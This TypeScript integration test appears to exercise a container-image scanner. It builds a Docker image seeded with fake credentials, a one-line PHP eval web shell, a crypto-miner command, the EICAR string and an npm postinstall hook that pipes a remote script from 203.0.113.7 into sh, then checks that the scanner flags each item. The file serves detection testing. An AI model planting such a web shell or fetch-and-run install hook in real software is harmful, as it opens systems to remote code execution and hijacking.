import assert from 'node:assert/strict'
import { spawnSync } from 'node:child_process'
import { generateKeyPairSync } from 'node:crypto'
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { createRequire } from 'node:module'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { after, before, test } from 'node:test'
import type { Report } from '../../src/base/model/report.ts'
import { buildImage } from '../../src/runtime/drill/image.ts'

/** A real image with trouble of every kind in it, put together here so that this file is none of it. */
const skip =
  spawnSync('docker', ['version'], { stdio: 'ignore' }).status === 0 && process.getuid?.() === 0
    ? false
    : 'needs Docker and root'
const of = (...parts: string[]): string => parts.join('')

const base = mkdtempSync(join(tmpdir(), 'jenner-scanners-'))
const image = `jenner-scanners-${process.pid}`
const root = join(import.meta.dirname, '../..')
const cache = join(base, 'cache')

const awsKey = of('AKI', 'AQ3T7ZK5WN2PXV4RB')
const awsSecret = of('kQ7vZp2LxW9sTb4NcR8m', 'Yd3HfJ6gAe5UuVwXqPoI')
const password = of('tr0ub4', 'dor9x')
const other = [of('Gr8zx', '!pQ91'), of('Vx92k', 'q1ZZp')]
const npmToken = of('np', 'm_a1b2c3d4e5f6g7h8i9j0k1l2m3n4o5p6q7r8')
const privateKey = generateKeyPairSync('ec', { namedCurve: 'P-256' })
  .privateKey.export({ type: 'pkcs8', format: 'pem' })
  .toString()
const keyBody = privateKey.split('\n')[1]!

const files: Record<string, string> = {
  'one/app/aws.env': `AWS_ACCESS_KEY_ID=${awsKey}\nAWS_SECRET_ACCESS_KEY=${awsSecret}\n`,
  'two/app/server.key': privateKey,
  'two/app/uploads/eicar.com': of('X5O!P%@AP[4\\PZX54(P^)7CC)7}', '$EICAR-STANDARD-', 'ANTIVIRUS-TEST-FILE!', '$H+H*'),
  'two/var/www/shell.php': of('<?php @ev', 'al($_PO', 'ST["c"]); ?>\n'),
  'two/opt/run.sh': of('#!/bin/sh\n./m -o strat', 'um+tcp://pool.x.test:3333 -u ', '4'.repeat(40), 'AbCdEf\n'),
  'two/opt/tool/LICENSE': gplText(),
  'two/app/node_modules/lodash/package.json': '{"name":"lodash","version":"4.17.15","license":"MIT"}',
  'one/app/database.yaml': of('db:\n  password: Gr8zx', '!pQ91\n'),
  'two/app/database.yaml': of('db:\n  password: $', '{DB_PASSWORD}\n'),
  'two/app/conn.properties': of('url=jdbc:mysql://shop:Vx92k', 'q1ZZp@db.internal:3306/shop\n'),
  'two/app/node_modules/late/package.json': of(
    '{"name":"late","version":"1.0.0","scripts":{"postinstall":"curl -s http://203.0.113.7/x.sh ',
    '| sh"}}',
  ),
  'two/app/about-eicar.md': of(
    'The EICAR-STANDARD-',
    'ANTIVIRUS-TEST-FILE is harmless: 68 bytes to try a scanner with.\n',
  ),
  'two/var/www/form.php': of('<?php echo htmlspecialchars($_PO', 'ST["c"]); ?>\n'),
  'two/app/readme.txt': 'The password is sent by mail. token: see the console.\n',
  'two/app/settings.yaml': of('db:\n  password: $', '{DB_PASSWORD}\n  host: db\n'),
}

function gplText(): string {
  const full = createRequire(import.meta.url)('spdx-license-list/full.js') as Record<string, { licenseText: string }>
  return full['GPL-3.0-only']!.licenseText
}

before(() => {
  if (skip) return
  buildImage(`${image}:base`)
  for (const [path, text] of Object.entries(files)) {
    mkdirSync(dirname(join(base, path)), { recursive: true })
    writeFileSync(join(base, path), text)
  }
  const lines = [
    `FROM ${image}:base`,
    'COPY one /',
    'RUN rm /app/aws.env',
    'COPY two /',
    `ENV DB_PASSWORD=${password}`,
    `LABEL deploy.token=${npmToken}`,
  ]
  writeFileSync(join(base, 'Dockerfile'), `${lines.join('\n')}\n`)
  const built = spawnSync('docker', ['build', '-q', '-t', `${image}:app`, base], { encoding: 'utf8' })
  assert.equal(built.status, 0, built.stderr)
})

after(() => {
  if (!skip) spawnSync('docker', ['rmi', '-f', `${image}:app`, `${image}:base`], { stdio: 'ignore' })
  rmSync(base, { recursive: true, force: true })
})

function jenner(...args: string[]): { status: number | null; stdout: string; stderr: string } {
  const all = ['image', `${image}:app`, '--scanners', 'vuln,secret,malware,license', '--license-deny', 'GPL-3.0']
  const fixed = ['--cache-dir', cache, '--allow-starter', '--offline', '--quiet']
  return spawnSync(join(root, 'jenner'), [...all, ...fixed, ...args], {
    encoding: 'utf8',
    maxBuffer: 1 << 28,
    cwd: base,
  })
}

/** The report of the first run, which read every layer. */
let fresh: Report

test('every kind of trouble is found, and nothing else', { skip }, () => {
  const { stdout, stderr } = jenner('-f', 'json')
  const report = JSON.parse(stdout || stderr) as Report
  fresh = report
  const found = report.Results.flatMap(result => [
    ...(result.Secrets ?? []).map(one => `${result.Target} ${one.RuleID}${one.RemovedIn ? ' removed' : ''}`),
    ...(result.Malware ?? []).map(one => `${result.Target} ${one.Rule}`),
    ...(result.Licenses ?? []).filter(one => one.Policy === 'deny').map(one => `${one.FilePath} ${one.Name}`),
    ...(result.Vulnerabilities ?? [])
      .filter(one => one.PkgName === 'lodash')
      .map(one => `lodash ${one.VulnerabilityID}`),
  ])
  assert.deepEqual(found.filter(line => !line.startsWith('lodash')).sort(), [
    '/app/aws.env aws-access-key-id removed',
    '/app/aws.env aws-secret-access-key removed',
    '/app/conn.properties url-credentials',
    '/app/database.yaml generic-secret removed',
    '/app/node_modules/late/package.json install_script_npm',
    '/app/server.key private-key',
    '/app/uploads/eicar.com EICAR_test_file',
    '/opt/run.sh Miner_command_line',
    '/opt/run.sh miner_pool_address',
    '/opt/tool/LICENSE GPL-3.0-only',
    '/var/www/shell.php web_shell_php',
    'config.json (Env) generic-secret',
    'config.json (Labels) npm-token',
    'config.json (history) generic-secret',
    'config.json (history) npm-token',
  ])
  assert.ok(found.some(line => line.startsWith('lodash CVE-')))
  assert.deepEqual(
    report.Incomplete.filter(({ code }) => code !== 'advisory_coverage_starter' && code !== 'no_advisories'),
    [],
  )
})

test('the second time no layer is read, and the report is the same', { skip }, () => {
  const [first, second] = [jenner('-f', 'json'), jenner('-f', 'json')].map(run => JSON.parse(run.stdout) as Report)
  assert.equal(second!.Timing.layersFromCache, second!.Timing.layers)
  assert.deepEqual(second!.Results, first!.Results)
  assert.deepEqual(second!.Metadata.Layers, fresh.Metadata.Layers)
  assert.ok(fresh.Metadata.Layers!.every(({ Size }) => Size > 0))
})

test('a report made from what is kept has the same bytes as one made without', { skip }, () => {
  const timeless = (text: string): string => text.replace(/"CreatedAt": "[^"]*"/, '').replace(/"Timing": \{[^}]*\}/, '')
  for (const format of ['json', 'table', 'junit']) {
    const [kept, read] = [jenner('-f', format), jenner('-f', format, '--no-cache')].map(run => timeless(run.stdout))
    assert.equal(kept, read, format)
  }
})

for (const format of ['json', 'table', 'sarif', 'html', 'junit', 'gitlab', 'cyclonedx', 'spdx-json', '{{json .}}'])
  test(`no secret stands in the ${format} report`, { skip }, () => {
    const { stdout } = jenner('-f', format, '--show-suppressed')
    assert.ok(stdout.length > 100)
    for (const secret of [awsKey, awsSecret, password, npmToken, keyBody, ...other]) assert.ok(!stdout.includes(secret))
  })

test('all kinds count at the gate, and severities choose among all', { skip }, () => {
  assert.equal(jenner('-f', 'json', '--exit-code', '7', '--scanners', 'secret').status, 7)
  assert.equal(jenner('-f', 'json', '--fail-on', 'CRITICAL', '--scanners', 'license').status, 2)
  assert.equal(jenner('-f', 'json', '--fail-on', 'LOW', '--scanners', 'malware').status, 2)
  assert.equal(jenner('-f', 'json', '--exit-code', '7', '--severity', 'UNKNOWN', '--scanners', 'secret').status, 0)
  assert.equal(jenner('--scanners', 'misconfig').status, 4)
})

test('a baseline and an ignore file take known secrets out', { skip }, () => {
  const baseline = join(base, 'baseline.json')
  writeFileSync(baseline, jenner('-f', 'json', '--scanners', 'secret').stdout)
  const count = (run: { stdout: string }): number =>
    (JSON.parse(run.stdout) as Report).Results.reduce((sum, { Secrets }) => sum + (Secrets?.length ?? 0), 0)
  assert.equal(count(jenner('-f', 'json', '--scanners', 'secret', '--secret-baseline', baseline)), 0)
  const ignore = join(base, '.trivyignore.yaml')
  writeFileSync(ignore, 'secrets:\n  - id: private-key\n    paths: ["app/**"]\n')
  assert.equal(
    count(jenner('-f', 'json', '--scanners', 'secret', '--ignorefile', ignore)) + 1,
    count(jenner('-f', 'json', '--scanners', 'secret', '--ignorefile', '/dev/null')),
  )
})
